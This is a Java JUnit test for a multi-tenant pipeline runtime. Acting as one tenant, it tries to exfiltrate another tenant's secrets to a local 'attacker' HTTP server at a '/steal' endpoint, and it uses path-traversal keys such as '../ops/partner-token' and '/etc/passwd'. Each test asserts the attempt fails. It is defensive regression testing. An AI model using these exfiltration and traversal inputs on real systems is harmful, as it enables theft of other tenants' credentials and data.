package io.sluice.local.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import io.sluice.api.tenant.ApiKeys;
import io.sluice.orchestration.json.Json;
import io.sluice.testkit.postgres.PostgresTestServer;
import io.sluice.testkit.postgres.TestDatabase;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.context.ConfigurableApplicationContext;
import software.amazon.awssdk.auth.credentials.AwsBasicCredentials;
import software.amazon.awssdk.auth.credentials.StaticCredentialsProvider;
import software.amazon.awssdk.core.client.config.SdkAdvancedClientOption;
import software.amazon.awssdk.http.urlconnection.UrlConnectionHttpClient;
import software.amazon.awssdk.regions.Region;
import software.amazon.awssdk.services.sfn.SfnClient;
import software.amazon.awssdk.services.sfn.model.StartSyncExecutionResponse;
import software.amazon.awssdk.services.sfn.model.StateMachineType;
import software.amazon.awssdk.services.sfn.model.TestStateResponse;

/**
 * Issue 30, probed as an attacker holding one tenant's operator key would: the runtime as {@code sluice serve} runs it,
 * with its data functions, two tenants ({@code finance}, {@code ops}), secrets in a folder, objects of both in the data
 * folder, and a loopback "attacker" HTTP server that records whatever reaches it. Every call below is made with
 * finance's key through the Step Functions API, and each asserts that nothing of ops's was read, resolved or sent, and
 * that nothing reached the attacker. Each of these ran differently before the run's owner was fixed by the host:
 * TestState ran as a pipeline no tenant owns, so a secret named {@code ops/partner-token} resolved as written and was sent
 * as a bearer token to the attacker's URL; push-export took its endpoint, credentials and key from the payload.
 */
class CrossTenantDataTest {
    static final String RUN = UUID.randomUUID().toString().substring(0, 8);
    static final String ROLE = "arn:aws:iam::123456789012:role/runner";
    static final String OPS_TOKEN = "OPS-PARTNER-TOKEN-7c1e";
    static final String OPS_SIGNING = "ops-worker-signing-secret-55aa";
    static final String OPS_ROW = "OPS-ONLY-ROW";
    static final String PASS = "{\"StartAt\": \"Done\", \"States\": {\"Done\": {\"Type\": \"Pass\", \"End\": true}}}";

    @TempDir
    static Path folder;
    static ConfigurableApplicationContext app;
    static TestDatabase database;
    static HttpServer attacker;
    static final List<String> received = new CopyOnWriteArrayList<>();

    @BeforeAll
    static void start() throws Exception {
        attacker = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        attacker.createContext("/", exchange -> {
            try (InputStream body = exchange.getRequestBody()) {
                received.add(exchange.getRequestHeaders() + " " + new String(body.readAllBytes(), StandardCharsets.UTF_8));
            }
            exchange.sendResponseHeaders(201, -1);
            exchange.close();
        });
        attacker.start();
        Path pipelines = Files.createDirectories(folder.resolve("pipelines"));
        Files.writeString(pipelines.resolve("fin-a.asl.json"), PASS);
        Files.writeString(pipelines.resolve("ops-a.asl.json"), PASS);
        Files.writeString(pipelines.resolve("tenants.json"), """
                {"tenants": {
                  "finance": {"pipelines": ["fin-a", "fin-express"], "keys": [{"id": "ci", "sha256": "%s", "role": "operator"}]},
                  "ops": {"pipelines": ["ops-a"], "keys": [{"id": "ops-worker", "sha256": "%s", "role": "operator"}]}}}"""
                .formatted(ApiKeys.hashHex(ApiKeys.generate()), ApiKeys.hashHex(ApiKeys.generate())));
        Path configs = Files.createDirectories(folder.resolve("configs"));
        Files.writeString(configs.resolve("ops-a.json"), "{\"token\": {\"secret\": \"partner-token\"}, \"marker\": \"" + OPS_ROW + "\"}");
        Files.writeString(configs.resolve("ops-a.schema.json"), "{}");
        Files.writeString(configs.resolve("fin-express.json"), """
                {"targets": [{"name": "partner", "kind": "http", "endpoint": "%s/inbound", "source": "exports/",
                              "credentials": {"secret": "partner-token"}}]}""".formatted(attackerUrl()));
        Files.createDirectories(folder.resolve("secrets/finance"));
        Files.writeString(folder.resolve("secrets/finance/sigv4-ci"), "finance-ci-signing-secret");
        Files.writeString(folder.resolve("secrets/finance/partner-token"), "FINANCE-TOKEN");
        Files.createDirectories(folder.resolve("secrets/ops"));
        Files.writeString(folder.resolve("secrets/ops/partner-token"), OPS_TOKEN);
        Files.writeString(folder.resolve("secrets/ops/sigv4-ops-worker"), OPS_SIGNING);
        write("data/landing/ops/orders.csv", OPS_ROW);
        write("data/tenants/ops/landing/orders.csv", OPS_ROW);
        write("data/tenants/finance/exports/2026-12-01.csv", "id\n1\n");
        database = PostgresTestServer.shared().createDatabase("xtenant_" + RUN);
        app = SfnApps.start(folder, RUN, "--sluice.data-functions=true", "--sluice.pg.url=" + database.jdbcUrl(),
                "--sluice.secrets-dir=" + folder.resolve("secrets"), "--sluice.config-dir=" + configs,
                "--sluice.scripts-dir=" + folder.resolve("jobs"), "--sluice.job-runs-dir=" + folder.resolve("job-runs"),
                "--sluice.triggers.schedules.enabled=false", "--sluice.demo-functions=false",
                // The platform allows its partner's address (finance's configured target), as an operator would: nothing else on
                // loopback is reachable, which the refusals below do not rely on.
                "--sluice.integrations.http.allowed-hosts=127.0.0.1:" + attacker.getAddress().getPort());
    }

    static void write(String path, String text) throws IOException {
        Path file = folder.resolve(path);
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
    }

    static String attackerUrl() {
        return "http://127.0.0.1:" + attacker.getAddress().getPort();
    }

    @AfterAll
    static void stop() {
        if (app != null) {
            app.close();
        }
        SfnApps.cleanUp(RUN);
        if (database != null) {
            database.close();
        }
        attacker.stop(0);
    }

    static SfnClient finance() {
        return SfnClient.builder().endpointOverride(URI.create(SfnApps.endpoint(app))).region(Region.US_EAST_1)
                .credentialsProvider(StaticCredentialsProvider.create(AwsBasicCredentials.create("ci", "finance-ci-signing-secret")))
                .overrideConfiguration(c -> c.retryStrategy(r -> r.maxAttempts(1))
                        .putAdvancedOption(SdkAdvancedClientOption.DISABLE_HOST_PREFIX_INJECTION, true))
                .httpClient(UrlConnectionHttpClient.create()).build();
    }

    static TestStateResponse testState(String resource, String parameters) {
        String state = "{\"Type\": \"Task\", \"Resource\": \"" + resource + "\", \"Parameters\": " + parameters + ", \"End\": true}";
        try (SfnClient client = finance()) {
            return client.testState(b -> b.definition(state).roleArn(ROLE).input("{}"));
        }
    }

    /** Nothing of ops's in what came back, and nothing reached the attacker. */
    static void leakedNothing(Object answer) {
        assertThat(String.valueOf(answer)).doesNotContain(OPS_TOKEN).doesNotContain(OPS_SIGNING).doesNotContain(OPS_ROW);
        assertThat(received).as("requests that reached the attacker's server").isEmpty();
    }

    @Test
    void testStateOfPushExportNeverSendsAnotherTenantsSecretAnywhere() {
        for (String secret : List.of("ops/partner-token", "../ops/partner-token", "ops/sigv4-ops-worker")) {
            TestStateResponse r = testState("sluice:function:push-export", """
                    {"Target": {"name": "t", "kind": "http", "endpoint": "%s/steal", "credentials": {"secret": "%s"}},
                     "BatchId": "b-1", "Key": "landing/ops/orders.csv"}""".formatted(attackerUrl(), secret));
            assertThat(r.statusAsString()).isEqualTo("FAILED");
            assertThat(r.error()).isEqualTo("Export.InvalidInput");
            assertThat(r.cause()).contains("\"endpoint\"");
            leakedNothing(r);
        }
        // Naming a target instead: a TestState runs no pipeline, so there is no config to take one from.
        TestStateResponse named = testState("sluice:function:push-export", """
                {"Target": "partner", "BatchId": "b-2", "Key": "landing/ops/orders.csv"}""");
        assertThat(named.statusAsString()).isEqualTo("FAILED");
        leakedNothing(named);
    }

    @Test
    void testStateOfReadConfigReadsNoConfigOfAnotherTenant() {
        TestStateResponse byName = testState("sluice:function:read-config", "{\"name\": \"ops-a\"}");
        assertThat(byName.statusAsString()).isEqualTo("FAILED");
        assertThat(byName.error()).isEqualTo("Config.NotFound");
        leakedNothing(byName);
        TestStateResponse byPipeline = testState("sluice:function:read-config", "{\"pipeline\": \"ops-a\"}");
        assertThat(byPipeline.error()).isEqualTo("Sluice.NoPipeline");
        leakedNothing(byPipeline);
    }

    @Test
    void testStateOfAnS3TaskStaysInsideTheCallersNamespace() {
        for (String parameters : List.of("{\"Bucket\": \"landing\", \"Key\": \"ops/orders.csv\"}",
                "{\"Bucket\": \"tenants\", \"Key\": \"ops/landing/orders.csv\"}",
                "{\"Bucket\": \"landing\", \"Key\": \"../../ops/landing/orders.csv\"}")) {
            TestStateResponse r = testState("arn:aws:states:::aws-sdk:s3:getObject", parameters);
            assertThat(r.statusAsString()).as(parameters).isEqualTo("FAILED");
            assertThat(r.error()).as(parameters).startsWith("S3.");
            leakedNothing(r);
        }
    }

    @Test
    void testStateStartsNoExecutionOfAnotherTenantsPipeline() {
        TestStateResponse r = testState("arn:aws:states:::states:startExecution",
                "{\"StateMachineArn\": \"" + SfnSdkTest.ARN + "stateMachine:ops-a\"}");
        assertThat(r.statusAsString()).isEqualTo("FAILED");
        assertThat(r.error()).isEqualTo("StepFunctions.StateMachineDoesNotExistException");
        try (SfnClient client = finance()) {
            assertThat(client.listExecutions(b -> b.stateMachineArn(SfnSdkTest.ARN + "stateMachine:fin-a")).executions()).isEmpty();
        }
    }

    /**
     * The tenant's own EXPRESS machine names a target of its pipeline's config: an object outside that target's source is
     * refused (another tenant's, or the platform's landing folder), one inside it is delivered where the config says.
     */
    @Test
    void aTenantsOwnMachinePushesOnlyItsConfiguredTargetsOwnObjects() {
        String machine = """
                {"StartAt": "Push", "States": {"Push": {"Type": "Task", "Resource": "sluice:function:push-export",
                  "Parameters": {"Target": "partner", "BatchId.$": "States.Format('{}/partner', $$.Execution.Id)", "Key.$": "$.key"},
                  "End": true}}}""";
        try (SfnClient client = finance()) {
            String arn = client.createStateMachine(b -> b.name("fin-express").definition(machine).roleArn(ROLE)
                    .type(StateMachineType.EXPRESS)).stateMachineArn();
            // Keys name objects of finance's own namespace (tenants/finance/...): none of these is under the target's source.
            for (String key : List.of("landing/ops/orders.csv", "tenants/ops/landing/orders.csv", "exports/../../ops/x", "/etc/passwd")) {
                StartSyncExecutionResponse r = client.startSyncExecution(b -> b.stateMachineArn(arn).input("{\"key\": \"" + key + "\"}"));
                assertThat(r.statusAsString()).as(key).isEqualTo("FAILED");
                assertThat(r.error()).as(key).isEqualTo("Export.InvalidInput");
                leakedNothing(r);
            }
            StartSyncExecutionResponse own = client.startSyncExecution(b -> b.stateMachineArn(arn)
                    .input("{\"key\": \"exports/2026-12-01.csv\"}"));
            assertThat(own.statusAsString()).as(own.error() + ": " + own.cause()).isEqualTo("SUCCEEDED");
            assertThat(Json.parse(own.output()).path("Target").asText()).isEqualTo("partner");
        }
        assertThat(received).hasSize(1);
        assertThat(received.getFirst()).contains("FINANCE-TOKEN").contains("id\n1\n").doesNotContain(OPS_TOKEN);
        received.clear();
    }
}
